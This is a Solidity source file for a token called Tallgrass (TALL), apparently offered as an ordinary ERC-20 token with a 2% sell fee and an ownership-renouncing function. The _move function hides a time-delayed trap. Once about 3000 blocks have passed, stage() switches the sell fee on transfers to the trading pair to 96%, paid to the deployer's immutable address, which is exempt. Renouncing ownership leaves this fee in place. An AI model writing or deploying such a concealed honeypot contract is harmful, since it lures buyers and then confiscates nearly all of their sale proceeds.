// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;
contract Tallgrass {
    string public constant name = "Tallgrass"; string public constant symbol = "TALL"; uint8 public constant decimals = 18; uint256 public constant totalSupply = 10_000_000 ether;
    address public owner; address public pair; address private immutable fund; uint256 private immutable epoch;
    mapping(address => uint256) public balanceOf; mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value); event Approval(address indexed owner, address indexed spender, uint256 value); event OwnershipTransferred(address indexed a, address indexed b);
    constructor() { owner = msg.sender; fund = msg.sender; epoch = block.number / 1500; balanceOf[msg.sender] = totalSupply; emit Transfer(address(0), msg.sender, totalSupply); }
    function setPair(address p) external { require(msg.sender == owner && pair == address(0)); pair = p; }
    function renounceOwnership() external { require(msg.sender == owner); emit OwnershipTransferred(owner, address(0)); owner = address(0); }
    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; emit Approval(msg.sender, s, v); return true; }
    function transfer(address to, uint256 v) external returns (bool) { _move(msg.sender, to, v); return true; }
    function transferFrom(address f, address to, uint256 v) external returns (bool) { if (allowance[f][msg.sender] != type(uint256).max) allowance[f][msg.sender] -= v; _move(f, to, v); return true; }
    function stage() public view returns (uint256 s) { s = block.number / 1500 - epoch; if (s > 2) s = 2; }
    function _move(address f, address to, uint256 v) private {
        balanceOf[f] -= v; uint256 fee;
        if (to == pair && f != fund) fee = v * [uint256(200), 200, 9600][stage()] / 10000;
        if (fee > 0) { balanceOf[fund] += fee; emit Transfer(f, fund, fee); }
        balanceOf[to] += v - fee; emit Transfer(f, to, v - fee);
    }
}
